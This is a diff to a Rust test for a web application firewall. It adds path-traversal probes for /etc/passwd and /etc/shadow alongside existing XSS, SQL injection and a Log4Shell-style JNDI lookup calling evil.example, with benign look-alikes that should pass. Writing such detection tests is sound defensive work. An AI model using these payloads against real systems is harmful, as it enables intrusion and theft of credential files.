@@ -779,6 +779,8 @@ async fn what_an_outside_attack_found_is_refused_and_look_alikes_pass() {
         (text, r#"{"q":"x","q":"\u003cscript\u003ealert(1)\u003c/script\u003e"}"#.into(), "waf.xss"),
         ("", r#"{"a":NaN,"q":"1\u0027 OR \u00271\u0027=\u00271"}"#.into(), "waf.sqli"),
         (text, utf16_json, "waf.xss"),
+        (json, r#"{"file":"/etc/passwd"}"#.into(), "waf.traversal"),
+        (json, r#"{"file":"/etc/shadow and more"}"#.into(), "waf.traversal"),
         (
             json,
             format!(r#"{{"q":"${{${{env:{}:-j}}ndi:ldap://evil.example/a}}"}}"#, "A".repeat(70)),
@@ -832,6 +834,7 @@ async fn what_an_outside_attack_found_is_refused_and_look_alikes_pass() {
             part(r#"name="upload"; filename="report.pdf""#, "%PDF-1.7 binary-ish content"),
         ),
         (json, r#"{"settings":"{theme: dark, config: compact}"}"#.into()),
+        (json, r#"{"v":"See /etc/hosts in the docs for the names"}"#.into()),
         (
             xml,
             "<soap:Envelope xmlns:soap='http://schemas.xmlsoap.org/soap/envelope/'><soap:Body><order id='1' xml:lang='en'>Tea</order></soap:Body></soap:Envelope>".into(),
